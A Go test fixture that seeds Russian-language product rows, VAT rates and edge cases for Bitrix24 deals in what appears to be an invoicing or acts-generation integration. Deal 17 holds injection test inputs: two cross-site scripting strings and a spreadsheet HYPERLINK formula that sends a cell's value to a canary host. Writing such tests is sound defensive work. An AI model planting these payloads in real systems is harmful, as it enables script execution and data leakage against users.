package main

import (
	"fmt"

	"acts24/integrations/bitrix24/bitrix24test"
)

func vat(percent float64) *float64 { return &percent }

// service is a usual row: price with VAT of 22 %.
func service(name string, price, count float64) bitrix24test.Row {
	return bitrix24test.Row{Name: name, Price: price, Quantity: count, TaxRate: vat(22), TaxIncluded: true, Measure: 796}
}

// withRate changes the VAT of a row; nil means without VAT.
func withRate(r bitrix24test.Row, rate *float64) bitrix24test.Row {
	r.TaxRate, r.TaxIncluded = rate, rate != nil
	return r
}

// seedRows are the product rows of the deals by number; deals that are not here have three usual rows.
var seedRows = map[int][]bitrix24test.Row{
	1: {
		service("Подбор зарубежных покупателей", 12200, 3),
		service("Перевод каталога на английский язык", 1830, 24),
		service("Организация деловой миссии в Дубай", 244000, 2),
		withRate(service("Справочная информация по рынку", 5000, 2), nil),
	},
	2: {
		withRate(service("Размещение на торговой площадке", 15000, 2), nil),
		withRate(service("Фотосъёмка продукции", 900, 12), nil),
	},
	3: {
		{Name: "Участие в выставке «Gulfood»: аренда стенда", Price: 439200, Quantity: 1, TaxRate: vat(22), TaxIncluded: true, DiscountRate: 10, Measure: 796},
		{Name: "Доставка образцов", Price: 1037.5, Quantity: 12.345, TaxRate: vat(22), TaxIncluded: true, Measure: 166},
		{Name: "Застройка стенда", Price: 2745.33, Quantity: 36.5, TaxRate: vat(22), Measure: 55},
	},
	4: {
		withRate(service("Консультация по сертификации", 3200, 5), vat(5)),
		withRate(service("Подготовка договора", 10700, 1), vat(7)),
	},
	5: {
		withRate(service("Дегустационные наборы", 550, 200), vat(10)),
		{Name: "Разработка упаковки", Price: 97600, Quantity: 1, TaxRate: vat(22), TaxIncluded: true, DiscountSum: 5000, Measure: 796},
	},
	6: {withRate(service("Ведение кабинета на площадке, месяц", 25000, 3), nil)},
	7: {service("Поиск дистрибьютора в Индии", 183000, 1), withRate(service("Экспортная перевозка", 96000, 1), vat(0))},
	8: {withRate(service("Обучение персонала, час", 2100.1, 7.5), vat(5))},
	9: {
		service("Регистрация товарного знака", 61000, 2), service("Патентный поиск", 18300.07, 3),
		withRate(service("Лекарственные образцы", 1100, 33), vat(10)),
	},
	10: {withRate(service("Составление бизнес-плана", 45000, 1), nil), withRate(service("Расчёт логистики", 333.33, 3), nil)},
	11: {
		service("Очень длинное название услуги № 1 «с кавычками „внутри“» — подготовка полного комплекта экспортных документов, включая перевод, нотариальное заверение, апостиль, оформление сертификата происхождения формы СТ-1 и доставку в посольство 📦 ёмкостью до 100 листов", 15250, 1),
		service(`Услуга "с прямыми кавычками" & <угловыми скобками>`, 100, 1),
	},
	12: {withRate(service("Маркетинговое исследование (договор 2025 года)", 120000, 1), vat(20)), withRate(service("Печать буклетов", 60, 1000), vat(20))},
	13: {service("Смета по старой ставке", 12000, 1), withRate(service("Консультация по старой ставке", 6000, 2), vat(20))},
	14: manyRows(64),
	15: {},
	16: {},
	17: {service("<script>alert('строка')</script>", 1220, 1), service(`"><img src=x onerror=alert(2)>`, 2440, 2), service("=HYPERLINK(\"http://canary.example/\"&A1)", 610, 1)},
	26: {},
}

// manyRows fill more than one page of the portal's list.
func manyRows(n int) []bitrix24test.Row {
	rates := []*float64{vat(22), vat(10), vat(7), vat(5), vat(0), nil}
	var out []bitrix24test.Row
	for i := range n {
		out = append(out, withRate(service(fmt.Sprintf("Поставка образца № %d", i+1), 122.5+float64(i)*3.37, float64(i%5)+0.5), rates[i%len(rates)]))
	}
	return out
}

func usualRows(n int) []bitrix24test.Row {
	return []bitrix24test.Row{
		service("Сопровождение экспортной сделки", 30500+float64(n)*610, 1), service("Перевод документов, страница", 610, float64(4+n)),
		withRate(service("Справка о рынке", 2500, 1), nil),
	}
}
